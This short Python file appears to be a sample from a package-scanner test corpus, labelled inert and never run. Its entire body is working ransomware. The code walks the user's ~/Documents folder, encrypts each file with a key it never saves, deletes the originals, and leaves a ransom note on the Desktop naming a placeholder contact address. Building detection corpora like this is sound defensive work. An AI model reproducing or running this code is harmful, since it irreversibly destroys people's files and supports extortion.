# pkgguard corpus 570 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import os

from cryptography.fernet import Fernet

_key = Fernet.generate_key()
_box = Fernet(_key)
for root, _dirs, files in os.walk(os.path.expanduser("~/Documents")):
    for name in files:
        path = os.path.join(root, name)
        with open(path, "rb") as fh:
            data = fh.read()
        with open(path + ".locked", "wb") as fh:
            fh.write(_box.encrypt(data))
        os.remove(path)
with open(os.path.expanduser("~/Desktop/READ_ME.txt"), "w") as fh:
    fh.write("Your files are encrypted. Contact recovery@mailbox.example\n")
